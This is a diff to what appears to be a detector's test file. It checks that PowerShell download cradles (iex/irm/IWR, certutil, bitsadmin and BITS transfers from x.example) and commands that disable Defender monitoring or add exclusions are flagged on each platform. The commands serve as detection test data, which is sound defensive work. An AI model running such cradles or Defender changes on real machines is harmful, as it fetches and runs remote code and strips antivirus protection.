@@ -167,3 +167,34 @@ test('the format operator and string-array -join are undone, each named, and wha
   assert.ok(kinds.includes('dropper'), kinds.join(', '));
   assert.ok(kinds.includes('obfuscation'), kinds.join(', '));
 });
+
+test('a cradle or Defender change on a line that hides nothing is read on any platform, in any case', () => {
+  const cases: Array<[string, string]> = [
+    ['iex (new-object net.webclient).downloadstring("http://x.example/a")', 'powershell:cradle'],
+    ['IWR http://x.example/a -OutFile a.bin; Start-Process a.bin', 'powershell:cradle'],
+    ['Invoke-RestMethod http://x.example/a | IEX', 'powershell:cradle'],
+    ['irm http://x.example/a | iex', 'powershell:cradle'],
+    ['Start-BitsTransfer http://x.example/a c:\\a', 'powershell:cradle'],
+    ['CertUtil -urlcache http://x.example/a a', 'powershell:cradle'],
+    ['bitsadmin /transfer j http://x.example/a c:\\a', 'powershell:cradle'],
+    [
+      '(New-Object -ComObject Msxml2.XMLHTTP).open("GET","http://x.example/a"); $x.DownloadFile("a")',
+      'powershell:cradle',
+    ],
+    ['Set-MpPreference -DisableRealtimeMonitoring $true', 'powershell:defender'],
+    ['add-mppreference -ExclusionPath C:\\Users\\Public\\', 'powershell:defender'],
+  ];
+  for (const platform of ['linux', 'windows'])
+    for (const [line, by] of cases) {
+      const e = evt('exec', {
+        host: { name: 'h', os: { platform } },
+        process: { pid: 1, name: 'x', command_line: line },
+      });
+      assert.ok(
+        signalsOf(powershell, e).some((s) => s.by === by),
+        `${platform}: ${line}`,
+      );
+    }
+  const routine = evt('exec', { process: { pid: 1, name: 'ls', command_line: 'ls -la /var/www' } });
+  assert.deepEqual(signalsOf(powershell, routine), []);
+});
